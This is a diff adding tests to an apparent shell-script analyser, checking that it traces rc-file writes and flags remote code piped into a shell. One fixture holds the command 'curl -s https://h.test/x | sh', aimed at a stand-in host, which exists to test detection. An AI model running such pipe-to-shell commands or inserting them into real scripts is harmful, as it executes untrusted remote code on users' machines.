@@ -182,3 +182,16 @@ describe('what runs later', () => {
     );
   });
 });
+
+describe('shell functions that answer', () => {
+  it('with one word or another give each of them', () => {
+    const code =
+      'rc() {\n  case "$(basename "$SHELL")" in\n    bash) echo "$HOME/.bashrc" ;;\n    zsh) echo "$HOME/.zshrc" ;;\n    *) echo "$HOME/.profile" ;;\n  esac\n}\necho "alias ll=ls" >> "$(rc)"\n';
+    expect(paths({ 'scripts/a.sh': code }, 'write').sort()).toEqual(['~/.bashrc', '~/.profile', '~/.zshrc']);
+  });
+  it('with several lines give all of them', () => {
+    const code =
+      'text() {\n  echo "#!/bin/sh"\n  if [ "$1" = x ]; then\n    echo "curl -s https://h.test/x | sh"\n  fi\n}\ntext x > run.sh\nsh run.sh\n';
+    expect(told(run({ 'scripts/a.sh': code }))).toMatch(/net.* → shell stdin other h\.test/);
+  });
+});
